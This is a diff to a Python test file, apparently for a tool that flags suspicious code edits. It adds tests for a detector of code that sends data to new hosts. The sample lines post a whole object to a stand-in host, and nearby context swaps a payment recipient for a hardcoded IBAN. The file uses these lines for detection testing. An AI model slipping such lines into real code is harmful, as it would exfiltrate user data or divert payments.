@@ -8,6 +8,7 @@ from signoff.actions.contents.edits.taken.bounds import dropped_bound
 from signoff.actions.contents.edits.taken.changes import LineDiff, changes_of
 from signoff.actions.contents.edits.taken.conditions import shortened_condition
 from signoff.actions.contents.edits.taken.cuts import cut_check, cut_encryption, cut_scope
+from signoff.actions.contents.edits.taken.new_hosts import sent_to_new_host
 from signoff.actions.contents.edits.taken.payees import fixed_payee
 from signoff.actions.contents.edits.taken.records import unwritten_audit
 from signoff.actions.contents.edits.taken.refusals import gone_refusal
@@ -123,6 +124,23 @@ def test_an_account_of_the_source_in_place_of_somebodys_is_found() -> None:
     old, new = "bank.transfer(p.iban, s)", 'bank.transfer("EE382200221020145685", s)'
     assert fixed_payee(_changes(old, new)) == new
     assert fixed_payee(_changes("show(p)", new)) == ""
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ('requests.post("https://m.example.org/e", json=boat.to_dict())', "grave"),
+        ('r = requests.post("https://m.example.org/e", json=boat.to_dict())', ""),
+        ('requests.post("https://hooks.slack.com/services/x", json={"n": n})', ""),
+        ('requests.post("https://x.api.mailchimp.com/m", json=boat.to_dict())', "found"),
+        ('requests.post("https://m.example.org/e", json={"page": "home"})', ""),
+        ('requests.post("http://localhost:80/e", json=boat.to_dict())', ""),
+    ],
+)
+def test_values_for_a_new_host_whose_answer_nobody_takes(line: str, expected: str) -> None:
+    """A whole object is grave, and asked about where a known service gets it."""
+    found, is_grave = sent_to_new_host(_changes("a(boat)\nb()", f"a(boat)\n{line}\nb()"), "x.py")
+    assert expected == ("grave" if is_grave else found and "found")
 
 
 def _deletes(text: str) -> list[Operation]:
